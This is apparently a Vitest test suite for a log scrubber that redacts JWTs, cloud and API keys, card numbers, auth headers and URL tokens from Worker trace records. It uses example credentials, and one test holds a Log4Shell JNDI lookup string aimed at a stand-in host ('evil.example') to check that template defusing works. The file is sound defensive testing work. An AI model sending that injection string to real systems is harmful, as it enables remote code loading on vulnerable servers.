/// <reference types="vite/client" />
import { describe, expect, it } from "vitest";
import security from "../../docs/security.md?raw";
import { serializeRecord } from "../../src/json";
import { normalizeTraceItems } from "../../src/normalize";
import type { ExceptionRecord, InvocationRecord, LogLineRecord, LogRecord } from "../../src/record";
import {
  compileScrubber,
  DEFAULT_SCRUB,
  DETECTOR_KINDS,
  DETECTORS_OFF_BY_DEFAULT,
  type DetectorKind,
  parseScrubConfig,
  type ScrubConfig,
  scrubRecord,
  scrubRecords,
  scrubText,
} from "../../src/scrub";
import captured from "../fixtures/trace-items.json";
import synthetic from "../fixtures/trace-items.synthetic.json";
import { traceItem } from "../sinks/helpers";

const fixtures: Record<string, unknown> = { ...captured, ...synthetic };
delete fixtures._comment;

function freeze<T>(value: T): T {
  if (value !== null && typeof value === "object" && !Object.isFrozen(value)) {
    Object.freeze(value);
    for (const key of Object.keys(value)) freeze((value as Record<string, unknown>)[key]);
  }
  return value;
}

function config(over: Partial<ScrubConfig> = {}): ScrubConfig {
  return { ...DEFAULT_SCRUB, ...over };
}

const ALL_ON = config({
  detectors: Object.fromEntries(DETECTOR_KINDS.map((k) => [k, true])) as Record<DetectorKind, boolean>,
});

// Real-shaped samples, assembled from parts (documented example values where the vendor publishes one).
const JWT =
  "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c";
const AWS_KEY = "AKIAIOSFODNN7EXAMPLE";
const AWS_SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";
const GH = `ghp_${"a1B2c3D4e5F6".repeat(3)}`;
const GH_PAT = `github_pat_${"11ABCDEFG0".repeat(2)}ab_${"Zy9Xw8Vu7T".repeat(5)}abcdefghi`;
const STRIPE = `sk_live_${"4eC39HqLyjWDarjtT1zdp7dc"}`;
const SLACK = `xoxb-${"123456789012"}-${"1234567890123"}-AbCdEfGhIjKlMnOpQrStUvWx`;
const SLACK_HOOK_PATH = "T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX";
const GOOGLE = `AIza${"SyDaGmWKa4JsXZ-HjGw7ISLn_3namBGewQe"}`;
const CARD = "4111 1111 1111 1111";
const BEARER_TOKEN = "mF_9.B5f-4.1JqM";

async function scrubAll(text: string, cfg: ScrubConfig = ALL_ON) {
  return scrubText(text, compileScrubber(cfg));
}

describe("scrub: detectors hit real-shaped samples", () => {
  const cases: [DetectorKind, string, string][] = [
    ["jwt", `token ${JWT} end`, "token [REDACTED:jwt] end"],
    ["aws_access_key", `key=${AWS_KEY};`, "key=[REDACTED:aws_access_key];"],
    ["aws_access_key", "ASIAY34FZKBOKMUTVV7A", "[REDACTED:aws_access_key]"],
    ["aws_secret_key", `aws_secret_access_key = ${AWS_SECRET}`, "aws_secret_access_key = [REDACTED:aws_secret_key]"],
    ["aws_secret_key", `{"SecretAccessKey":"${AWS_SECRET}"}`, '{"SecretAccessKey":"[REDACTED:aws_secret_key]"}'],
    ["github_token", `GITHUB_TOKEN=${GH}\n`, "GITHUB_TOKEN=[REDACTED:github_token]\n"],
    ["github_token", `pat ${GH_PAT}`, "pat [REDACTED:github_token]"],
    ["stripe_key", `stripe: ${STRIPE}`, "stripe: [REDACTED:stripe_key]"],
    ["stripe_key", "rk_test_51H8abcDEF0123456789", "[REDACTED:stripe_key]"],
    ["slack_token", `slack ${SLACK}`, "slack [REDACTED:slack_token]"],
    [
      "slack_token",
      `POST https://hooks.slack.com/services/${SLACK_HOOK_PATH} 200`,
      "POST https://hooks.slack.com/services/[REDACTED:slack_token] 200",
    ],
    ["google_api_key", `maps?key2 ${GOOGLE}`, "maps?key2 [REDACTED:google_api_key]"],
    ["card", `paid with ${CARD} ok`, "paid with [REDACTED:card] ok"],
    ["card", "card=5555-5555-5555-4444", "card=[REDACTED:card]"],
    ["card", "amex 378282246310005.", "amex [REDACTED:card]."],
    ["card", "total 25 4012888888881881", "total 25 [REDACTED:card]"],
    ["bearer", `Bearer ${BEARER_TOKEN}`, "Bearer [REDACTED:bearer]"],
    ["bearer", "Authorization: Basic dXNlcjpwYXNzd29yZA==", "Authorization: Basic [REDACTED:bearer]"],
    ["bearer", `{"authorization":"Token abcdefgh"}`, `{"authorization":"Token [REDACTED:bearer]"}`],
    [
      "url_param",
      "GET https://api.example.com/cb?state=abc&access_token=s3cr3tvalue&x=1",
      "GET https://api.example.com/cb?state=abc&access_token=[REDACTED:url_param]&x=1",
    ],
    ["url_param", "password=hunter2; theme=dark", "password=[REDACTED:url_param]; theme=dark"],
    [
      "url_token",
      "https://shop.example.com/reset/Zx9Qm2LkP0aB7cD4eF6gH8iJ1kL3mN5o/confirm",
      "https://shop.example.com/reset/[REDACTED:url_token]/confirm",
    ],
    // Each form below is one people log that a plain scan missed (or over-scrubbed).
    [
      "bearer",
      'Authorization: Digest username="bob", realm="api", nonce="dcd98b7102dd2f0e8b11d0f600bfb0c093", uri="/a", response="6629fae49393a05397450978507c4ef1", cnonce="0a4f113b"',
      'Authorization: Digest username="bob", realm="api", nonce="[REDACTED:bearer]", uri="/a", response="[REDACTED:bearer]", cnonce="[REDACTED:bearer]"',
    ],
    [
      "slack_token",
      `{"webhook":"https:\\/\\/hooks.slack.com\\/services\\/${SLACK_HOOK_PATH.replaceAll("/", "\\/")}"}`,
      '{"webhook":"https:\\/\\/hooks.slack.com\\/services\\/[REDACTED:slack_token]"}',
    ],
    ["card", "card=4111+1111+1111+1111&qty=1", "card=[REDACTED:card]&qty=1"],
    ["card", "card=4111%201111%201111%201111&qty=1", "card=[REDACTED:card]&qty=1"],
    [
      "url_param",
      "GET /login?next=%2Freset%3Ftoken%3Ds3cr3tvalue99&lang=en",
      "GET /login?next=%2Freset%3Ftoken%3D[REDACTED:url_param]&lang=en",
    ],
    ["bearer", "retrying with Bearer%20abcdef123456789 now", "retrying with Bearer%20[REDACTED:bearer] now"],
    [
      "bearer",
      "GET /x?authorization=Bearer%20abcdef123456789&page=2",
      "GET /x?authorization=Bearer%20[REDACTED:bearer]&page=2",
    ],
    ["email", "from alice.smith+tag@mail.example.co.uk.", "from [REDACTED:email]."],
    ["ipv4", "client 203.0.113.7 connected", "client [REDACTED:ipv4] connected"],
    ["ipv6", "client 2001:db8::8a2e:370:7334 connected", "client [REDACTED:ipv6] connected"],
    ["ipv6", "via ::ffff:192.0.2.128", "via [REDACTED:ipv6]"],
  ];
  for (const [kind, input, expected] of cases) {
    it(`${kind}: ${input.slice(0, 60)}`, async () => {
      const { text, hits } = await scrubAll(input);
      expect(text).toBe(expected);
      expect(hits).toBe(expected.split("[REDACTED:").length - 1);
    });
  }

  it("what is not scrubbed, as docs/security.md says: JSON or prose passwords, double encoding, numbers", async () => {
    for (const text of [
      '{"password":"hunter2"}',
      "the password is hunter2",
      "GET /login?next=%252Freset%253Ftoken%253Ds3cr3tvalue99",
    ]) {
      expect((await scrubAll(text)).text).toBe(text);
    }
  });

  it("a JWT after Bearer is reported as a jwt, and the word Bearer stays", async () => {
    expect((await scrubAll(`Authorization: Bearer ${JWT}`)).text).toBe("Authorization: Bearer [REDACTED:jwt]");
  });

  it("overlapping matches merge into one span named after the more specific detector", async () => {
    const { text, hits } = await scrubAll(`git clone https://${GH}@github.com/o/r`);
    // The email detector (on here) takes "<token>@github.com"; nothing of either is left.
    expect(text).toBe("git clone https://[REDACTED:github_token]/o/r");
    expect(hits).toBe(1);
    expect((await scrubAll(`git clone https://${GH}@github.com/o/r`, DEFAULT_SCRUB)).text).toBe(
      "git clone https://[REDACTED:github_token]@github.com/o/r",
    );
  });

  it("every kind in the catalogue has a sample here and a line in docs/security.md, in catalogue order", () => {
    expect([...new Set(cases.map(([kind]) => kind))].sort()).toEqual([...DETECTOR_KINDS].sort());
    const on = DETECTOR_KINDS.filter((k) => !DETECTORS_OFF_BY_DEFAULT.includes(k));
    const rows = [...security.matchAll(/^\| `([a-z0-9_]+)` \|/gm)].map((m) => m[1]);
    expect(rows.slice(0, on.length)).toEqual(on);
    const off = /^Off by default: (.*) \(see below\)\.$/m.exec(security)?.[1] ?? "";
    expect([...off.matchAll(/`([a-z0-9_]+)`/g)].map((m) => m[1]).sort()).toEqual([...DETECTORS_OFF_BY_DEFAULT].sort());
  });

  it("a JWT in a query value is one hit, as a jwt", async () => {
    const { text, hits } = await scrubAll(`https://x.example/cb?id_token=${JWT}`);
    expect(text).toBe("https://x.example/cb?id_token=[REDACTED:jwt]");
    expect(hits).toBe(1);
  });
});

describe("scrub: detectors miss near-misses", () => {
  // A 13-digit millisecond timestamp that passes Luhn: no card network issues numbers starting with 1.
  let luhnTimestamp = 1795248103711;
  const luhnOk = (d: string) =>
    [...d].reverse().reduce((sum, c, i) => {
      let n = Number(c) * (i % 2 ? 2 : 1);
      if (n > 9) n -= 9;
      return sum + n;
    }, 0) %
      10 ===
    0;
  while (!luhnOk(String(luhnTimestamp))) luhnTimestamp++;

  const misses: [string, string][] = [
    ["jwt", "xyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.abcdefghijk"],
    ["jwt", "release v1.22.3 of module eyJ"],
    ["aws_access_key", "AKIAIOSFODNN7EXAMPL and AKIAIOSFODNN7EXAMPLEX"],
    ["aws_secret_key", `unlabelled ${AWS_SECRET}`],
    ["github_token", `ghp_${"a1B2c3D4e5".repeat(2)} ghx_${"a1B2c3D4e5F6".repeat(3)}`],
    ["stripe_key", "pk_live_4eC39HqLyjWDarjtT1zdp7dc sk_live_short"],
    ["slack_token", "xoxb-123 https://hooks.slack.com/"],
    ["google_api_key", "AIzaSyDaGmWKa4JsXZ-HjGw7"],
    ["card", "order 4111111111111112 shipped"],
    ["card", `at ${luhnTimestamp} ms`],
    ["card", "phone +1 555-123-4567, id 12345678901234567890123"],
    ["bearer", "use Bearer authentication; Authorization: REDACTED"],
    ["url_param", "https://x.example/p?id=REDACTED&state=abc&error_code=E42"],
    ["url_token", "/orders/123e4567-e89b-12d3-a456-426614174000/0123456789abcdef0123456789abcdef"],
    ["ipv4", "version 1.2.3.4.5 and 999.1.1.1"],
    ["ipv6", "at 12:30:45 in std::vector"],
  ];
  for (const [kind, input] of misses) {
    it(`${kind}: ${input.slice(0, 60)}`, async () => {
      const { text, hits } = await scrubAll(input);
      expect(text).toBe(input);
      expect(hits).toBe(0);
    });
  }

  it("email and IP addresses are left alone by default", async () => {
    const input = "alice@example.com from 203.0.113.7 and 2001:db8::1";
    expect(await scrubAll(input, DEFAULT_SCRUB)).toEqual({ text: input, hits: 0 });
    expect(DEFAULT_SCRUB.detectors.email || DEFAULT_SCRUB.detectors.ipv4 || DEFAULT_SCRUB.detectors.ipv6).toBe(false);
    expect(DEFAULT_SCRUB.detectors.jwt && DEFAULT_SCRUB.detectors.card && DEFAULT_SCRUB.mode === "mask").toBe(true);
  });

  it("a detector turned off is not applied", async () => {
    const cfg = config({ detectors: { ...DEFAULT_SCRUB.detectors, card: false } });
    expect((await scrubAll(`card ${CARD} key ${AWS_KEY}`, cfg)).text).toBe(
      `card ${CARD} key [REDACTED:aws_access_key]`,
    );
  });
});

describe("scrub: modes", () => {
  const KEY = "k".repeat(32);

  it("drop replaces the whole value with [DROPPED:<kind>]", async () => {
    const { text, hits } = await scrubAll(`user paid with ${CARD} using ${AWS_KEY}`, config({ mode: "drop" }));
    expect(text).toBe("[DROPPED:card]");
    expect(hits).toBe(2);
  });

  it("hash writes [HASH:<kind>:<16 hex of HMAC-SHA-256(key, value)>]", async () => {
    const { text } = await scrubAll(`key ${AWS_KEY}`, config({ mode: "hash", hashKey: KEY }));
    const raw = await crypto.subtle.importKey(
      "raw",
      new TextEncoder().encode(KEY),
      { name: "HMAC", hash: "SHA-256" },
      false,
      ["sign"],
    );
    const mac = new Uint8Array(await crypto.subtle.sign("HMAC", raw, new TextEncoder().encode(AWS_KEY)));
    const hex = [...mac.slice(0, 8)].map((b) => b.toString(16).padStart(2, "0")).join("");
    expect(text).toBe(`key [HASH:aws_access_key:${hex}]`);
  });

  it("hash is stable, joins equal values and differs by key", async () => {
    const a = compileScrubber(config({ mode: "hash", hashKey: KEY }));
    const b = compileScrubber(config({ mode: "hash", hashKey: KEY }));
    const other = compileScrubber(config({ mode: "hash", hashKey: "another-key-of-32-characters-xyz" }));
    const one = (await scrubText(`a ${STRIPE}`, a)).text;
    expect((await scrubText(`a ${STRIPE}`, a)).text).toBe(one);
    expect((await scrubText(`a ${STRIPE}`, b)).text).toBe(one);
    expect((await scrubText(`a ${STRIPE}`, other)).text).not.toBe(one);
    expect((await scrubText(`a sk_live_${"0".repeat(24)}`, a)).text).not.toBe(one);
    expect(one).toMatch(/^a \[HASH:stripe_key:[0-9a-f]{16}\]$/);
  });

  it("hash joins across the records of a batch, also when the value repeats", async () => {
    const records = normalizeTraceItems([
      traceItem({ logs: [{ level: "log", message: [`charged ${CARD}`] }] }),
      traceItem({ path: "/b", logs: [{ level: "log", message: [`refund ${CARD}`] }] }),
    ]);
    const sc = compileScrubber(config({ mode: "hash", hashKey: KEY }));
    const { records: out, hits } = await scrubRecords(records, sc);
    const messages = out.filter((r) => r.type === "log").map((r) => r.message);
    const hash = /\[HASH:card:([0-9a-f]{16})\]/;
    expect(messages[0]).toMatch(hash);
    expect(messages[0]?.match(hash)?.[1]).toBe(messages[1]?.match(hash)?.[1]);
    expect(hits).toBe(2);
  });
});

describe("scrub: records", () => {
  function planted(): LogRecord[] {
    const item = traceItem({
      path: `/checkout?card=${CARD.replaceAll(" ", "")}&session_token=${JWT}`,
      logs: [{ level: "info", message: ["charging", { card: CARD, aws: { key: AWS_KEY } }, `Bearer ${BEARER_TOKEN}`] }],
      exceptions: [{ name: "Error", message: `upstream refused ${AWS_KEY}` }],
    });
    const event = item.event as { request: { headers: Record<string, string> } };
    event.request.headers = { authorization: `Bearer ${BEARER_TOKEN}`, "x-session": JWT, accept: "*/*" };
    const exceptions = item.exceptions as { stack: string }[];
    (exceptions[0] as { stack: string }).stack +=
      `\n    at charge (worker.js:3:1) card ${CARD} token ${JWT} Authorization: Bearer ${BEARER_TOKEN}`;
    return normalizeTraceItems([item]);
  }

  it("none of a JWT, AWS key, card and bearer token survive anywhere: message, args, stack, url query, header", async () => {
    const records = planted().map(freeze);
    const before = JSON.stringify(records);
    for (const s of [JWT, AWS_KEY, CARD, CARD.replaceAll(" ", ""), BEARER_TOKEN]) expect(before).toContain(s);
    const { records: out, hits } = await scrubRecords(records, compileScrubber(DEFAULT_SCRUB));
    const after = JSON.stringify(out);
    for (const s of [JWT, AWS_KEY, CARD, CARD.replaceAll(" ", ""), BEARER_TOKEN, "eyJ", "AKIA"]) {
      expect(after).not.toContain(s);
    }
    // The structure is kept: the same records, fields and header names, only values replaced.
    expect(out.map((r) => r.id)).toEqual(records.map((r) => r.id));
    const inv = out[0] as InvocationRecord;
    const headers = (inv.event as { request: { headers: Record<string, string> } }).request.headers;
    expect(headers).toEqual({
      authorization: "Bearer [REDACTED:bearer]",
      "x-session": "[REDACTED:jwt]",
      accept: "*/*",
    });
    expect(inv.url).toBe("https://shop.example.com/checkout?card=[REDACTED:card]&session_token=[REDACTED:jwt]");
    expect((out[1] as LogLineRecord).args).toEqual([
      "charging",
      { card: "[REDACTED:card]", aws: { key: "[REDACTED:aws_access_key]" } },
      "Bearer [REDACTED:bearer]",
    ]);
    expect((out[2] as ExceptionRecord).message).toBe("upstream refused [REDACTED:aws_access_key]");
    expect(hits).toBeGreaterThanOrEqual(15);
    // Input untouched (it is frozen, and the same JSON as before).
    expect(JSON.stringify(records)).toBe(before);
  });

  it("results stay valid JSON and serialize to parseable lines", async () => {
    const { records: out } = await scrubRecords(
      planted(),
      compileScrubber(config({ mode: "hash", hashKey: "x".repeat(16) })),
    );
    for (const r of out) {
      expect(JSON.parse(JSON.stringify(r))).toEqual(r);
      const line = serializeRecord(r).line;
      expect(JSON.parse(line)).toEqual(JSON.parse(JSON.stringify(r)));
      expect(line).not.toContain(AWS_KEY);
    }
  });

  it("unchanged parts are shared, changed ones are new objects", async () => {
    const records = planted().map(freeze);
    const { records: out } = await scrubRecords(records, compileScrubber(DEFAULT_SCRUB));
    const inv = records[0] as InvocationRecord;
    const outInv = out[0] as InvocationRecord;
    expect(outInv).not.toBe(inv);
    const cf = (r: InvocationRecord) => (r.event as { request: { cf: unknown } }).request.cf;
    expect(cf(outInv)).toBe(cf(inv));
    expect(outInv.scriptVersion).toBe(inv.scriptVersion);
  });

  it("a clean batch of real fixtures comes back as the same array and records, with hits 0", async () => {
    const labels = Object.keys(fixtures).filter((l) => l !== "fetch-post");
    const records = normalizeTraceItems(labels.map((l) => fixtures[l])).map(freeze);
    expect(records.length).toBeGreaterThan(40);
    const sc = compileScrubber(ALL_ON);
    // With email and IPs on, the addresses in the fixtures are hit; with the defaults nothing is.
    const withAll = await scrubRecords(records, sc);
    expect(withAll.hits).toBeGreaterThan(0);
    const result = await scrubRecords(records, compileScrubber(DEFAULT_SCRUB));
    expect(result.hits).toBe(0);
    expect(result.records).toBe(records);
    for (const [i, r] of result.records.entries()) expect(r).toBe(records[i]);
  });

  it("the captured fetch-post: the runtime left ?token= in the URL; only that value is scrubbed", async () => {
    const records = normalizeTraceItems([fixtures["fetch-post"]]).map(freeze);
    const { records: out, hits } = await scrubRecords(records, compileScrubber(DEFAULT_SCRUB));
    expect(JSON.stringify(out)).not.toContain("secret-query-token");
    const inv = out[0] as InvocationRecord;
    expect(inv.url).toBe("http://127.0.0.1:8787/post?token=[REDACTED:url_param]&id=REDACTED");
    // Headers the runtime already redacted are not counted again.
    const headers = (inv.event as { request: { headers: Record<string, string> } }).request.headers;
    expect(headers.authorization).toBe("REDACTED");
    // url on both records, event.request.url, the invocation message.
    expect(hits).toBe(4);
    expect(out[1]).not.toBe(records[1]);
    expect({ ...out[1], url: undefined }).toEqual({ ...records[1], url: undefined });
  });

  it("scrubRecord returns the same record when nothing matches", async () => {
    const [inv] = normalizeTraceItems([traceItem()]);
    const result = await scrubRecord(inv as LogRecord, compileScrubber(DEFAULT_SCRUB));
    expect(result).toEqual({ record: inv, hits: 0 });
    expect(result.record).toBe(inv);
  });

  it("diagnostics data and console.error errors are scrubbed deep", async () => {
    const item = traceItem({ logs: [] });
    item.diagnosticsChannelEvents = [{ channel: "db", message: { query: { token: JWT }, n: 1 }, timestamp: 1 }];
    item.logs = [
      {
        level: "error",
        message: ["failed"],
        errorInfo: [{ name: "Error", message: `bad key ${AWS_KEY}`, stack: `Error: bad key ${AWS_KEY}\n at x` }],
        timestamp: 2,
      },
    ];
    const records = normalizeTraceItems([item]).map(freeze);
    const { records: out } = await scrubRecords(records, compileScrubber(DEFAULT_SCRUB));
    const diag = out.find((r) => r.type === "diagnostic");
    expect(diag?.type === "diagnostic" && diag.data).toEqual({ query: { token: "[REDACTED:jwt]" }, n: 1 });
    expect(diag?.message).not.toContain("eyJ");
    const log = out.find((r) => r.type === "log") as LogLineRecord;
    expect(JSON.stringify(log.errors)).not.toContain(AWS_KEY);
    expect(log.errors?.[0]).toEqual({
      name: "Error",
      message: "bad key [REDACTED:aws_access_key]",
      stack: "Error: bad key [REDACTED:aws_access_key]\n at x",
    });
  });

  it("fields other than the scanned ones are left as they are", async () => {
    const item = traceItem({ script: AWS_KEY });
    const records = normalizeTraceItems([item]).map(freeze);
    const { records: out } = await scrubRecords(records, compileScrubber(DEFAULT_SCRUB));
    expect(out.every((r) => r.scriptName === AWS_KEY)).toBe(true);
  });
});

describe("scrub: field rules", () => {
  it("mask and drop by path, with * for one segment, before detectors", async () => {
    const item = traceItem({
      logs: [{ level: "log", message: ["login", { user: "ann", password: "hunter2" }, { password: "pw2", keep: 1 }] }],
    });
    (item.event as { request: { headers: Record<string, string> } }).request.headers = {
      cookie: "session=abc123",
      "x-request-id": "req-1",
    };
    const records = normalizeTraceItems([item]).map(freeze);
    const cfg = config({
      fields: [
        { path: "args.*.password", action: "mask" },
        { path: "event.request.headers.cookie", action: "drop" },
      ],
    });
    const { records: out, hits } = await scrubRecords(records, compileScrubber(cfg));
    const inv = out[0] as InvocationRecord;
    expect((inv.event as { request: { headers: unknown } }).request.headers).toEqual({ "x-request-id": "req-1" });
    expect((out[1] as LogLineRecord).args).toEqual([
      "login",
      { user: "ann", password: "[REDACTED:field]" },
      { password: "[REDACTED:field]", keep: 1 },
    ]);
    expect(hits).toBe(3);
    // The rendered message is text: the field rule does not reach it (detectors do).
    expect((records[1] as LogLineRecord).args).toEqual([
      "login",
      { user: "ann", password: "hunter2" },
      { password: "pw2", keep: 1 },
    ]);
  });

  it("drop on a required field replaces it, on an optional one deletes it; array elements keep their place", async () => {
    const records = normalizeTraceItems([traceItem({ logs: [{ level: "log", message: ["a", { x: 1 }, "c"] }] })]).map(
      freeze,
    );
    const cfg = config({
      fields: [
        { path: "message", action: "drop" },
        { path: "url", action: "drop" },
        { path: "args.1", action: "drop" },
      ],
    });
    const { records: out } = await scrubRecords(records, compileScrubber(cfg));
    const log = out[1] as LogLineRecord;
    expect(log.message).toBe("[DROPPED:field]");
    expect("url" in log).toBe(false);
    expect(log.args).toEqual(["a", "[DROPPED:field]", "c"]);
  });

  it("a path that is not there changes nothing", async () => {
    const records = normalizeTraceItems([traceItem()]).map(freeze);
    const cfg = config({ fields: [{ path: "args.*.password", action: "mask" }] });
    const result = await scrubRecords(records, compileScrubber(cfg));
    expect(result.records).toBe(records);
    expect(result.hits).toBe(0);
  });
});

describe("scrub: custom patterns and template defusing", () => {
  it("custom patterns, with a secret group, flags, and back references", async () => {
    const cfg = config({
      patterns: [
        { name: "order_secret", pattern: "ord_(?<secret>[a-z0-9]{12})", flags: "i" },
        { name: "pin", pattern: "pin:(\\d)\\1\\d\\d", flags: "" },
      ],
    });
    const { text, hits } = await scrubAll("ORD_ABCDEF123456 pin:1123 pin:1234", cfg);
    expect(text).toBe("ORD_[REDACTED:order_secret] [REDACTED:pin] pin:1234");
    expect(hits).toBe(2);
  });

  it("defuseTemplates replaces ${ with x{ (Logpush's CVE-2021-44228 option); off by default", async () => {
    const input = "ua ${jndi:ldap://evil.example/a}";
    expect(await scrubAll(input, DEFAULT_SCRUB)).toEqual({ text: input, hits: 0 });
    expect(await scrubAll(input, config({ defuseTemplates: true }))).toEqual({
      text: "ua x{jndi:ldap://evil.example/a}",
      hits: 1,
    });
  });

  it("enabled = false passes records through", async () => {
    const records = planted1();
    const result = await scrubRecords(records, compileScrubber(config({ enabled: false })));
    expect(result.records).toBe(records);
  });

  function planted1(): LogRecord[] {
    return normalizeTraceItems([traceItem({ logs: [{ level: "log", message: [AWS_KEY] }] })]);
  }
});

describe("scrub: parseScrubConfig", () => {
  const env = { SCRUB_HASH_KEY: "0123456789abcdef0123", LOGS_R2: {} };
  const parse = (raw: unknown) => parseScrubConfig(raw, env, "SCRUB");
  const errs = (raw: unknown) => parse(raw).errors.map((e) => `${e.variable}${e.path}: ${e.message}`);

  it("nothing set: no config and no errors; true: the defaults; false: off", () => {
    expect(parse(undefined)).toEqual({ config: null, errors: [] });
    expect(parse("")).toEqual({ config: null, errors: [] });
    expect(parse(true).config).toEqual(DEFAULT_SCRUB);
    expect(parse(false).config?.enabled).toBe(false);
  });

  it("reads a TOML table and a JSON string alike, resolving ${SECRET} in hashKey", () => {
    const table = {
      mode: "hash",
      hashKey: "${SCRUB_HASH_KEY}",
      detectors: { email: true, card: false },
      patterns: [{ name: "order_secret", pattern: "ord_[a-z0-9]{12}" }],
      fields: [{ path: "event.request.headers.cookie", action: "drop" }],
      defuseTemplates: true,
    };
    const a = parse(table);
    expect(a.errors).toEqual([]);
    expect(a.config).toEqual({
      enabled: true,
      mode: "hash",
      hashKey: env.SCRUB_HASH_KEY,
      detectors: { ...DEFAULT_SCRUB.detectors, email: true, card: false },
      patterns: [{ name: "order_secret", pattern: "ord_[a-z0-9]{12}", flags: "" }],
      fields: [{ path: "event.request.headers.cookie", action: "drop" }],
      defuseTemplates: true,
    });
    expect(parse(JSON.stringify(table))).toEqual(a);
  });

  it("names the path of each mistake", () => {
    expect(errs({ mode: "blur" })).toEqual(['SCRUB.mode: must be "mask", "hash" or "drop"']);
    expect(errs({ detectors: { jwt: true, passport: true } })).toEqual([
      `SCRUB.detectors.passport: unknown detector; known detectors: ${DETECTOR_KINDS.join(", ")}`,
    ]);
    expect(errs({ detectors: { jwt: "yes" } })).toEqual(["SCRUB.detectors.jwt: expected boolean, got a string"]);
    expect(errs({ patterns: [{ name: "ok", pattern: "a(b" }] })).toEqual([
      "SCRUB.patterns[0].pattern: is not a valid regular expression (Unterminated group)",
    ]);
    expect(errs({ patterns: [{ name: "empty", pattern: "x*" }] })[0]).toMatch(
      /^SCRUB.patterns\[0\].pattern: matches the empty string/,
    );
    expect(
      errs({
        patterns: [
          { name: "jwt", pattern: "x" },
          { name: "a", pattern: "y", flags: "g" },
        ],
      }),
    ).toEqual([
      'SCRUB.patterns[0].name: "jwt" is already a detector or pattern name; names must be unique',
      "SCRUB.patterns[1].flags: must be letters from i, m, s, u, each at most once (g and d are added by tailfan)",
    ]);
    expect(errs({ mode: "hash" })).toEqual([
      'SCRUB.hashKey: is required when mode is "hash": set it to a secret reference like "${SCRUB_HASH_KEY}" (`npx wrangler secret put SCRUB_HASH_KEY`)',
    ]);
    expect(errs({ mode: "hash", hashKey: "${NOPE}" })[0]).toMatch(/^SCRUB.hashKey: secret NOPE is not set/);
    expect(errs({ mode: "hash", hashKey: "${LOGS_R2}" })).toEqual([
      "SCRUB.hashKey: ${LOGS_R2} names a binding, not a secret or text var",
    ]);
    expect(
      errs({
        fields: [
          { path: "id", action: "drop" },
          { path: "args..x", action: "mask" },
          { path: "url", action: "hash" },
        ],
      }),
    ).toEqual(['SCRUB.fields[2].action: must be "drop" or "mask"']);
    expect(
      errs({
        fields: [
          { path: "id", action: "drop" },
          { path: "args..x", action: "mask" },
        ],
      }),
    ).toEqual([
      `SCRUB.fields[0].path: must start at one of message, url, event, args, errors, stack, data, tailAttributes, preview, extra, mailFrom, rcptTo; the other fields identify and route records`,
      'SCRUB.fields[1].path: must be a dot path like "event.request.headers.cookie"',
    ]);
    expect(errs({ mdoe: "mask" })[0]).toMatch(/^SCRUB.mdoe: unknown option; known options: enabled, mode, hashKey/);
    expect(errs([1])).toEqual(["SCRUB: expected a table (or true/false), got an array"]);
  });

  it("never echoes values: not a hash key, not the JSON text", () => {
    const shortKey = "tiny-s3cret";
    const e1 = errs({ mode: "hash", hashKey: shortKey });
    expect(e1).toEqual([
      "SCRUB.hashKey: must be at least 16 characters: a short key lets anyone who sees the hashes guess the values",
    ]);
    const e2 = errs(`{"mode":"hash","hashKey":"${shortKey}"`);
    expect(e2).toHaveLength(1);
    expect(e2.join()).not.toContain(shortKey);
    const e3 = errs({ mode: 42, hashKey: 7 });
    expect(e3.join()).not.toContain("42");
  });

  it("a parsed config compiles, and a hash-mode config without a key does not", () => {
    const parsed = parse({ patterns: [{ name: "x_id", pattern: "X-[0-9]{6}" }] });
    expect(() => compileScrubber(parsed.config as ScrubConfig)).not.toThrow();
    expect(() => compileScrubber(config({ mode: "hash", hashKey: null }))).toThrow(/hashKey/);
  });
});
